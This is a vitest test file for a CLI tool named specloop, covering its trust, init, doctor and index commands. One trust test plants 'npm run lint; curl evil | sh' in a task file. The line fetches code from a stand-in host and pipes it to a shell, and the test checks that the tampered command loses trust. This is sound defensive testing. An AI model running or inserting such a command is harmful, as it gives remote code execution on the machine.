import { mkdirSync, readFileSync, realpathSync } from 'node:fs';
import { join } from 'node:path';
import { afterEach, beforeEach, expect, test } from 'vitest';
import { setAsideFolder, worktreesFolder } from '../../adapters/workspace/location.ts';
import { PLAN, runIn, type TestRepository, testRepository } from '../shared/test-rig.ts';

let repository: TestRepository;
beforeEach(() => {
  repository = testRepository();
  repository.write('specs/demo/tasks.md', PLAN);
  repository.write('specs/.current-spec', 'demo\n');
});
afterEach(() => repository.remove());

function read(path: string): string {
  return readFileSync(join(repository.dir, path), 'utf8');
}

test('trust --list shows what a run would execute, and from where, and trusts nothing (R-SEC-1)', async () => {
  repository.write(
    'specloop.config.yaml',
    'agentCommand: node agent.mjs "a b"\ntestCommand: npm test -- all\nroles: {reviewer: {command: [review]}}\nworktree: {setup: npm ci}\n',
  );
  const expected = {
    code: 0,
    stdout: `new      specs/demo/tasks.md:5  npm test
new      specs/demo/tasks.md:7  npm run lint
new      the agent  ["node","agent.mjs","a b"]
new      the agent of the reviewer  ["review"]
new      the setting testCommand  npm test -- all
new      the setting worktree.setup  ["npm","ci"]
`,
    stderr: '',
  };
  expect(await repository.run(['trust', '--list'])).toEqual(expected);
  expect(await repository.run(['trust', '--list'])).toEqual(expected);
});

test('the program of a role needs trust also when there is no common agent (R-SEC-1)', async () => {
  repository.write('specloop.config.yaml', 'roles: {executor: {command: [work]}}\n');
  const { stdout } = await repository.run(['trust', '--list']);
  expect(stdout).toContain('new      the agent of the executor  ["work"]\n');
});

test('what was trusted stays trusted until it changes (R-SEC-1)', async () => {
  const { stderr } = await repository.run(['trust']);
  expect(stderr).toBe(`2 commands trusted in ${repository.dir}, 2 of them new.\n`);
  repository.write('specs/demo/tasks.md', PLAN.replace('npm run lint', 'npm run lint; curl evil | sh'));
  const listed = JSON.parse((await repository.run(['trust', '--list', '--json'])).stdout);
  expect(listed).toEqual([
    { command: 'npm test', from: 'specs/demo/tasks.md:5', trusted: true },
    { command: 'npm run lint; curl evil | sh', from: 'specs/demo/tasks.md:7', trusted: false },
  ]);
});

test('init adds ignore entries and a settings file, says so, and does it once (R-FILE-8)', async () => {
  repository.write('.gitignore', 'node_modules');
  expect((await repository.run(['init'])).stderr).toBe(
    `.gitignore: added .ralph-state.json*, .progress-task-*.md, .coordinator-prompt.md, .current-spec, .current-epic, .research-*.md, *.specloop-tmp.
specloop.config.yaml: created, with every setting as a comment.
`,
  );
  expect(read('.gitignore')).toBe(
    'node_modules\n# Private files of specloop\n.ralph-state.json*\n.progress-task-*.md\n.coordinator-prompt.md\n.current-spec\n.current-epic\n.research-*.md\n*.specloop-tmp\n',
  );
  const before = [read('.gitignore'), read('specloop.config.yaml')];
  expect((await repository.run(['init'])).stderr).toBe(
    '.gitignore already has all entries.\nspecloop.config.yaml exists already and was not changed.\n',
  );
  expect([read('.gitignore'), read('specloop.config.yaml')]).toEqual(before);
});

test('init leaves settings in JSON alone, and keeps CRLF', async () => {
  repository.write('.gitignore', 'dist\r\n');
  repository.write('specloop.config.json', '{}');
  const { stderr } = await repository.run(['init']);
  expect(stderr).toContain('specloop.config.json exists already and was not changed.\n');
  expect(read('.gitignore')).toMatch(/^dist\r\n# Private files of specloop\r\n(\S+\r\n){7}$/);
});

interface Finding {
  readonly level: string;
  readonly about: string;
  readonly message: string;
  readonly fix?: string;
}

async function examine(
  env: Readonly<Record<string, string>> = {},
): Promise<{ readonly code: number; readonly findings: readonly Finding[] }> {
  const { code, stdout } = await repository.run(['doctor', '--json'], { env });
  return { code, findings: JSON.parse(stdout).findings };
}

test('doctor changes nothing, and says of everything that is wrong how to put it right', async () => {
  repository.write('specloop.config.yaml', 'jbos: 3\n');
  repository.write('.git/index.lock', '');
  const before = repository.git('status', '--porcelain', '--ignored');
  const { code, findings } = await examine({ SPECLOOP_JBOS: '1' });
  expect(code).toBe(1);
  expect(findings.filter(({ level, fix }) => level !== 'ok' && !fix?.endsWith('.'))).toEqual([]);
  expect(findings).toEqual(
    expect.arrayContaining([
      expect.objectContaining({ level: 'ok', about: 'locks' }),
      expect.objectContaining({ level: 'fail', about: 'repository', message: 'It has no commit yet.' }),
      expect.objectContaining({
        level: 'fail',
        about: 'settings',
        message: 'specloop.config.yaml:1:1 "jbos" is not a setting. Did you mean "jobs"?',
      }),
    ]),
  );
  expect(repository.git('status', '--porcelain', '--ignored')).toBe(before);
});

test('doctor tells of worktrees and branches that dead runs of a spec left, and of no others (R-PAR-3)', async () => {
  repository.git('commit', '--quiet', '--allow-empty', '--message', 'begin');
  const left = (task: string) => `specloop-batch/specs_2Fdemo/20260101T120000Z-abc123/${task}.AbCdEf`;
  const leftovers = async () => (await examine()).findings.filter(({ about }) => about === 'worktrees');
  for (const name of ['specloop-batch/specs_2Fdemo/mine', 'feat/demo']) repository.git('branch', name);
  expect(await leftovers()).toEqual([]);
  repository.git('branch', left('1.2'));
  repository.git('worktree', 'add', '--quiet', '-b', left('1.1'), join(repository.dir, '.git/tree'));
  expect(await leftovers()).toEqual([
    {
      level: 'warn',
      about: 'worktrees',
      message: 'Killed runs of demo left 1 worktree and branches in specloop-batch/specs_2Fdemo.',
      fix: 'Nothing to do: the next run of demo removes them.',
    },
  ]);
});

test('doctor lists what runs set aside in the cache (R-ADV-6)', async () => {
  const cache = join(repository.dir, '../cache');
  const dir = setAsideFolder(worktreesFolder(cache, join(realpathSync(repository.dir), '.git'), 'specs/demo'));
  mkdirSync(join(dir, '20260101T120000Z-abc123', '1.1.AbCdEf'), { recursive: true });
  const found = await examine({ XDG_CACHE_HOME: cache });
  expect(found.findings.filter(({ about }) => about === 'set aside')).toEqual([
    {
      level: 'warn',
      about: 'set aside',
      message: `${dir} has 1 folder that runs of demo could neither keep nor remove.`,
      fix: 'Check whether you need anything in it, then delete it.',
    },
  ]);
});

test('index writes all specs, and twice the same (R-ADV-3, R-PLAN-1)', async () => {
  repository.write('specs/next/requirements.md', '# Next\n');
  const { code, stdout } = await repository.run(['index']);
  expect({ code, stdout: stdout.replaceAll(`${repository.dir}/`, '') }).toMatchObject({ code: 0 });
  const texts = [read('specs/.index/index.md'), read('specs/.index/index.json')];
  expect(JSON.parse(texts[1] ?? '')).toMatchObject({
    v: 1,
    specs: [{ name: 'demo', state: 'tasks' }, { name: 'next' }],
  });
  await repository.run(['index']);
  expect([read('specs/.index/index.md'), read('specs/.index/index.json')]).toEqual(texts);
});

test('doctor without git says so and stops there', async () => {
  const { code, stdout, stderr } = await runIn(repository.dir, ['doctor'], { env: { PATH: '/nowhere' } });
  expect(code).toBe(1);
  expect(stdout).toContain(
    'FAIL  git: git was not found or does not start.\n      Fix: Install git 2.39 or later, and make sure that it is on PATH.\n',
  );
  expect(stderr).toBe('Fix what failed, then run "specloop doctor" again.\n');
});
